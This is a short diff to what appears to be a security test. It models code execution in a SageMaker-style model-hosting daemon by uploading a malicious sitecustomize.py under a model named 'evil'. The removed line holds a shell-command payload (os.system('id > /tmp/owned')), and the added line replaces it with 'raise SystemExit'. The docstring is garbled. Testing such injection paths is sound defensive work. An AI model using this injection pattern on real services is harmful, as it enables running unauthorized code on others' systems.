@@ -43,7 +43,7 @@ def sagemaker(operation: str, **request: object) -> tuple[str, str, bytes, dict[
 def code_execution() -> Iterator[tuple[str, str, bytes, dict[str, str]]]:
     """Code of the attacker's, as the daemon's owner: by an object, a model that imports it, and an endpoint."""
     yield "PUT", "/models", b"", {}
-    yield "PUT", "/models/evil/sitecustomize.py", b"import os; os.system('id > /tmp/owned')", {}
+    yield "PUT", "/models/evil/sitecustomize.py", b"raise SystemExit", {}
     data = {"S3Uri": "s3://models/evil/", "S3DataType": "S3Prefix", "CompressionType": "None"}
     container = {
         "Image": IMAGE,
